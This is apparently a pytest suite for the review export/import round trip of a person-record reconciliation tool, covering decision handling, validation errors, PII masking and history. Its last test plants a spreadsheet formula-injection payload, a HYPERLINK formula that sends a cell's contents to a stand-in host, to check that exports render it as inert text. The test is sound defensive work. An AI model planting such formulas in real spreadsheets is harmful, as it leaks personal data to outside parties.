"""The clerical review round trip: export the queue, decide in Excel, import, and the next run obeys."""

from __future__ import annotations

import csv
import logging
import shutil
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from openpyxl import load_workbook

from cli import cli
from conftest import read_frame, table_rows
from reconcile.config import load_config
from reconcile.match import match


def _copy_run(synthetic_run, folder: Path):
    """The session's matched target in a folder of our own: these tests change it."""
    files, _, _ = synthetic_run
    shutil.copytree(files.config.parent, folder)
    return load_config(folder / files.config.name)


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def _masters(config) -> dict[tuple[str, str], str]:
    xref = read_frame(config.target_url(), "SELECT source_system, source_id, master_id FROM person_xref")
    return dict(zip(zip(xref["source_system"], xref["source_id"], strict=True), xref["master_id"], strict=True))


def _queue(config) -> pd.DataFrame:
    return read_frame(config.target_url(), "SELECT * FROM review_queue").set_index("review_id")


def _fill_xlsx(path: Path, decisions: dict[str, tuple[str, str, str]]) -> None:
    """As a reviewer would: type into the decision, reviewer and note cells of the rows named by review_id."""
    book = load_workbook(path)
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    column = {name: header.index(name) + 1 for name in ("review_id", "decision", "reviewer", "note")}
    for row in range(2, sheet.max_row + 1):
        review_id = sheet.cell(row, column["review_id"]).value
        if review_id in decisions:
            for name, value in zip(("decision", "reviewer", "note"), decisions[review_id], strict=True):
                sheet.cell(row, column[name]).value = value
    book.save(path)


def _pair(queue: pd.DataFrame, review_id: str) -> tuple[tuple[str, str], tuple[str, str]]:
    row = queue.loc[review_id]
    return (row["source_system_l"], row["source_id_l"]), (row["source_system_r"], row["source_id_r"])


def _reviewed_copy(reviewed, tmp_path: Path):
    """The reviewed run in a folder of this test's own, with the pairs chosen and the queue before."""
    base, chosen, _, before_queue, _, _ = reviewed
    shutil.copytree(base.base_dir, tmp_path / "run")
    return load_config(tmp_path / "run" / base.path.name), chosen, before_queue


def _decision_csv(path: Path, review_id: str, left: tuple, right: tuple, decision: str) -> Path:
    """A one-row decision file, as a lead might write by hand."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["review_id", "source_system_l", "source_id_l", "source_system_r", "source_id_r", "decision"])
        writer.writerow([review_id, *left, *right, decision])
    return path


@pytest.fixture(scope="module")
def reviewed(synthetic_run, tmp_path_factory):
    """One MATCH, one NOT_MATCH and one UNSURE typed into the exported xlsx, imported, then matched again."""
    config = _copy_run(synthetic_run, tmp_path_factory.mktemp("review") / "run")
    before_masters, before_queue = _masters(config), _queue(config)
    exported = _invoke("review", "export", "--config", str(config.path))
    path = config.base_dir / "review_queue.xlsx"
    assert f"wrote {len(before_queue)} pairs" in exported and path.stat().st_mode & 0o777 == 0o600
    between = before_queue[before_queue["reason"] == "score between the review and match thresholds"].index
    others = [i for i in before_queue.index if i != between[0]]
    chosen = {"MATCH": between[0], "NOT_MATCH": others[0], "UNSURE": others[1]}
    _fill_xlsx(
        path,
        {
            chosen["MATCH"]: (" match ", "A. Reviewer", "same child, school confirms"),
            chosen["NOT_MATCH"]: ("Not_Match", None, None),  # reviewer from --reviewer
            chosen["UNSURE"]: ("unsure", "A. Reviewer", "ask the team"),
        },
    )
    imported = _invoke("review", "import", str(path), "--config", str(config.path), "--reviewer", "B. Reviewer")
    rerun = match(config)
    return config, chosen, before_masters, before_queue, imported, rerun


def test_decisions_from_an_edited_xlsx_change_the_next_run_exactly_as_decided(reviewed):
    config, chosen, before, _, imported, _ = reviewed
    assert "stored 3 decisions from review_queue.xlsx: 1 MATCH, 1 NOT_MATCH, 1 UNSURE" in imported
    before_queue = reviewed[3]
    after = _masters(config)
    (a, b) = _pair(before_queue, chosen["MATCH"])
    assert before[a] != before[b] and after[a] == after[b]
    for review_id in (chosen["NOT_MATCH"], chosen["UNSURE"]):
        left, right = _pair(before_queue, review_id)
        assert after[left] != after[right]
    # Nothing else moved: every other record keeps its master, and only the MATCH joined two.
    joined = {before[a], before[b]}
    unchanged = {key for key, master in before.items() if master not in joined}
    assert all(after[key] == before[key] for key in unchanged)
    assert len(set(after.values())) == len(set(before.values())) - 1


def test_decided_pairs_leave_the_queue_and_unsure_ones_stay(reviewed):
    config, chosen, _, before_queue, _, rerun = reviewed
    after_queue = _queue(config)
    assert set(after_queue.index) == set(before_queue.index) - {chosen["MATCH"], chosen["NOT_MATCH"]}
    assert rerun.review_queue == len(after_queue) == len(before_queue) - 2
    assert chosen["UNSURE"] in after_queue.index


def test_the_merge_a_reviewer_made_is_in_the_history_and_the_decisions_are_on_record(reviewed):
    config, chosen, before, before_queue, _, rerun = reviewed
    a, b = _pair(before_queue, chosen["MATCH"])
    after = _masters(config)
    history = read_frame(config.target_url(), f"SELECT * FROM master_id_history WHERE run_id = '{rerun.run_id}'")
    moved = before[a] if after[a] != before[a] else before[b]
    assert history[["old_master_id", "new_master_id", "reason"]].values.tolist() == [[moved, after[a], "review"]]
    stored = read_frame(config.target_url(), "SELECT * FROM review_decision ORDER BY decision")
    assert stored["decision"].tolist() == ["MATCH", "NOT_MATCH", "UNSURE"]
    assert stored["reviewer"].tolist() == ["A. Reviewer", "B. Reviewer", "A. Reviewer"]
    assert stored["note"].tolist()[:2] == ["same child, school confirms", None]
    assert set(stored["file"]) == {"review_queue.xlsx"} and stored["decided_at"].notna().all()
    assert set(stored["run_id"]) == set(before_queue["run_id"])
    xref = read_frame(config.target_url(), "SELECT source_system, source_id, method FROM person_xref")
    methods = xref.set_index(["source_system", "source_id"])["method"]
    assert "review" in {methods[a], methods[b]}


def test_a_change_of_mind_splits_the_pair_again(reviewed, tmp_path):
    """A NOT_MATCH on a pair a reviewer had matched: the latest decision wins, and the split is in the history."""
    config, chosen, before_queue = _reviewed_copy(reviewed, tmp_path)
    a, b = _pair(before_queue, chosen["MATCH"])
    path = _decision_csv(tmp_path / "second.csv", chosen["MATCH"], b, a, "NOT_MATCH")  # either way round
    output = _invoke("review", "import", str(path), "--config", str(config.path), "--reviewer", "C. Lead")
    assert "stored 1 decisions from second.csv: 1 NOT_MATCH" in output
    joined = _masters(config)[a]
    rerun = match(config)
    after = _masters(config)
    assert after[a] != after[b] and joined in {after[a], after[b]}
    history = read_frame(config.target_url(), f"SELECT * FROM master_id_history WHERE run_id = '{rerun.run_id}'")
    assert history["reason"].tolist() == ["review"] and history["old_master_id"].tolist() == [joined]


def test_importing_the_same_file_twice_stores_nothing_new(reviewed, tmp_path):
    config, _, _ = _reviewed_copy(reviewed, tmp_path)
    before = table_rows(config.target_url(), "SELECT COUNT(*) FROM review_decision")
    path = config.base_dir / "review_queue.xlsx"
    output = _invoke("review", "import", str(path), "--config", str(config.path), "--reviewer", "B. Reviewer")
    assert "stored 0 decisions" in output and "3 already stored as they are" in output
    assert table_rows(config.target_url(), "SELECT COUNT(*) FROM review_decision") == before


def _export_csv(config, *extra: str) -> pd.DataFrame:
    path = config.base_dir / "queue.csv"
    _invoke("review", "export", "--config", str(config.path), "--format", "csv", "--out", str(path), *extra)
    assert path.stat().st_mode & 0o777 == 0o600
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.fixture
def fresh(synthetic_run, tmp_path):
    return _copy_run(synthetic_run, tmp_path / "run")


def test_bad_codes_unknown_pairs_and_edited_keys_are_named_by_row_and_nothing_is_stored(fresh):
    rows = _export_csv(fresh)
    rows.loc[0, ["decision", "reviewer"]] = ["YES", "A"]
    rows.loc[1, ["decision", "reviewer", "review_id"]] = ["MATCH", "A", "RFFFFFFFFFFFFFFFF"]
    rows.loc[2, ["decision", "reviewer", "source_id_r"]] = ["MATCH", "A", "not-the-record"]
    rows.loc[3, ["decision"]] = ["NOT_MATCH"]  # no reviewer, and no --reviewer
    rows.loc[4, ["decision", "reviewer"]] = ["MATCH", "A"]  # fine on its own
    path = fresh.base_dir / "edited.csv"
    rows.to_csv(path, index=False)
    result = CliRunner().invoke(cli, ["review", "import", str(path), "--config", str(fresh.path)])
    assert result.exit_code == 3
    assert "edited.csv: 4 problem(s), nothing stored" in result.output
    assert "row 2: decision must be MATCH, NOT_MATCH or UNSURE" in result.output
    assert "row 3: review_id is not a pair in the review queue" in result.output
    assert "row 4: the record keys" in result.output
    assert "row 5: no reviewer" in result.output and "row 6" not in result.output
    assert table_rows(fresh.target_url(), "SELECT COUNT(*) FROM review_decision") == [(0,)]


def test_missing_columns_a_non_review_file_and_a_missing_folder_are_clear_errors(fresh):
    rows = _export_csv(fresh).drop(columns=["source_id_r"])
    path = fresh.base_dir / "cut.csv"
    rows.to_csv(path, index=False)
    result = CliRunner().invoke(cli, ["review", "import", str(path), "--config", str(fresh.path)])
    assert result.exit_code == 3 and "missing column(s) source_id_r" in result.output
    junk = fresh.base_dir / "junk.xlsx"
    junk.write_text("not a workbook", encoding="utf-8")
    result = CliRunner().invoke(cli, ["review", "import", str(junk), "--config", str(fresh.path)])
    assert result.exit_code == 3 and "not a readable .xlsx workbook" in result.output
    nowhere = fresh.base_dir / "no-such-folder" / "queue.xlsx"
    result = CliRunner().invoke(cli, ["review", "export", "--config", str(fresh.path), "--out", str(nowhere)])
    assert result.exit_code == 3 and "no-such-folder: no such folder" in result.output


def test_a_masked_export_holds_no_names_or_nhs_numbers_and_still_imports(fresh):
    person = read_frame(fresh.target_url(), "SELECT forename, surname, nhs_number FROM person")
    full = _export_csv(fresh)
    masked = _export_csv(fresh, "--mask-pii")
    text = masked.to_csv(index=False)
    names = {n for side in ("_l", "_r") for f in ("forename", "surname") for n in full[f + side] if len(n) > 2}
    numbers = set(person["nhs_number"].dropna()) & (set(full["nhs_number_l"]) | set(full["nhs_number_r"]))
    assert names and numbers and not any(n in text for n in numbers)
    assert not names & set(masked.to_numpy().ravel())
    for value in pd.concat([masked["forename_l"], masked["surname_r"]]):
        assert all(len(part) == 2 and part.endswith(".") for part in value.split())
    masked.loc[0, ["decision", "reviewer"]] = ["NOT_MATCH", "A"]
    path = fresh.base_dir / "masked.csv"
    masked.to_csv(path, index=False)
    output = _invoke("review", "import", str(path), "--config", str(fresh.path))
    assert "stored 1 decisions from masked.csv: 1 NOT_MATCH" in output
    assert "skipped" in output and str(len(masked) - 1) in output


def test_the_xlsx_has_a_frozen_header_sized_columns_and_a_decision_dropdown(fresh):
    _invoke("review", "export", "--config", str(fresh.path))
    sheet = load_workbook(fresh.base_dir / "review_queue.xlsx").active
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["review_id", "decision", "reviewer", "note"]
    assert {"forename_l", "forename_r", "top_reasons", "match_probability"} <= set(header)
    assert sheet.freeze_panes == "B2"
    assert 10 < sheet.column_dimensions["A"].width <= 40
    (validation,) = sheet.data_validations.dataValidation
    assert validation.formula1 == '"MATCH,NOT_MATCH,UNSURE"' and str(validation.sqref).startswith("B2:B")
    assert all(sheet.cell(row, 2).value is None for row in range(2, sheet.max_row + 1))


def test_review_before_any_match_run_is_a_clear_error(tmp_path):
    from conftest import LEGACY_ENTITIES, write_config

    path = write_config(
        tmp_path, {"sources": {"lcs": {"connector": "sql", "url": "sqlite:///x.db", "entities": LEGACY_ENTITIES}}}
    )
    result = CliRunner().invoke(cli, ["review", "export", "--config", str(path)])
    assert result.exit_code == 3 and "run `reconcile match` first" in result.output


def test_decisions_on_records_no_longer_loaded_are_counted_and_ignored(fresh, caplog):
    engine = sa.create_engine(fresh.target_url())
    with engine.begin() as conn:
        conn.execute(
            sa.text(
                "INSERT INTO review_decision VALUES ('RGONE', 'lcs', 'gone-1', 'lcs', 'gone-2', 'MATCH', 'A', NULL, "
                "'2026-11-01 10:00:00', 'old.xlsx', 'r0')"
            )
        )
    engine.dispose()
    before = _masters(fresh)
    with caplog.at_level(logging.INFO):
        summary = match(fresh)
    assert "review decisions: 1 on records no longer loaded, ignored" in caplog.text
    assert _masters(fresh) == before and summary.id_changes == 0


@pytest.mark.parametrize("command", [["review"], ["review", "export"], ["review", "import"]])
def test_the_review_commands_have_a_manual(command):
    output = _invoke(*command, "--help")
    assert "Usage: reconcile review" in output and "MATCH" in output and len(output.splitlines()) > 8


def test_every_output_table_of_the_review_round_trip_is_in_the_readme():
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    assert "| `review_decision` | yes |" in readme and "## Clerical review" in readme
    assert "reconcile review export" in readme and "reconcile review import" in readme


def test_re_importing_an_older_file_cannot_undo_a_later_not_match(reviewed, tmp_path):
    """Monday's MATCH, Tuesday's NOT_MATCH, then Monday's file again: refused, unless --replace says so."""
    config, chosen, before_queue = _reviewed_copy(reviewed, tmp_path)
    a, b = _pair(before_queue, chosen["MATCH"])
    tuesday = _decision_csv(tmp_path / "tuesday.csv", chosen["MATCH"], a, b, "NOT_MATCH")
    _invoke("review", "import", str(tuesday), "--config", str(config.path), "--reviewer", "C. Lead")
    monday = config.base_dir / "review_queue.xlsx"
    stored = table_rows(config.target_url(), "SELECT COUNT(*) FROM review_decision")

    again = CliRunner().invoke(
        cli, ["review", "import", str(monday), "--config", str(config.path), "--reviewer", "B. Reviewer"]
    )
    assert again.exit_code == 3 and "a NOT_MATCH stored by an earlier import is in force" in again.output
    assert table_rows(config.target_url(), "SELECT COUNT(*) FROM review_decision") == stored
    match(config)
    after = _masters(config)
    assert after[a] != after[b], "the NOT_MATCH still holds"

    forced = _invoke(
        "review", "import", str(monday), "--config", str(config.path), "--reviewer", "B. Reviewer", "--replace"
    )
    assert "1 MATCH" in forced


def test_an_older_file_with_the_same_name_cannot_undo_a_later_not_match(reviewed, tmp_path):
    """Exports share one name until someone renames them: Monday's review_queue.csv, Tuesday's too."""
    config, chosen, before_queue = _reviewed_copy(reviewed, tmp_path)
    a, b = _pair(before_queue, chosen["MATCH"])
    (tmp_path / "monday").mkdir()
    (tmp_path / "tuesday").mkdir()
    monday = _decision_csv(tmp_path / "monday" / "review_queue.csv", chosen["MATCH"], a, b, "MATCH")
    tuesday = _decision_csv(tmp_path / "tuesday" / "review_queue.csv", chosen["MATCH"], a, b, "NOT_MATCH")
    for file in (monday, tuesday):
        _invoke("review", "import", str(file), "--config", str(config.path), "--reviewer", "C. Lead")

    again = CliRunner().invoke(cli, ["review", "import", str(monday), "--config", str(config.path), "--reviewer", "B"])
    assert again.exit_code == 3 and "a NOT_MATCH stored by an earlier import is in force" in again.output
    match(config)
    after = _masters(config)
    assert after[a] != after[b], "the NOT_MATCH still holds"


def test_text_from_a_legacy_system_is_never_a_live_formula_in_an_export(fresh):
    """A forename of =HYPERLINK(...) must reach a reviewer as text, in xlsx and in csv."""
    queue = _queue(fresh)
    system, person = queue.iloc[0]["source_system_l"], queue.iloc[0]["source_id_l"]
    engine = sa.create_engine(fresh.target_url())
    with engine.begin() as conn:
        conn.execute(
            sa.text("UPDATE person SET forename = :f WHERE source_system = :s AND person_id = :p"),
            {"f": '=HYPERLINK("http://example.invalid/?"&G2,"Click")', "s": system, "p": person},
        )
    engine.dispose()
    _invoke("review", "export", "--config", str(fresh.path))
    sheet = load_workbook(fresh.base_dir / "review_queue.xlsx").active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("forename_l")] for row in sheet.iter_rows(min_row=2)]
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
    rows = _export_csv(fresh)
    assert any(value.startswith("'=HYPERLINK") for value in rows["forename_l"])
    assert not any(value.startswith("=") for column in rows.columns for value in rows[column])
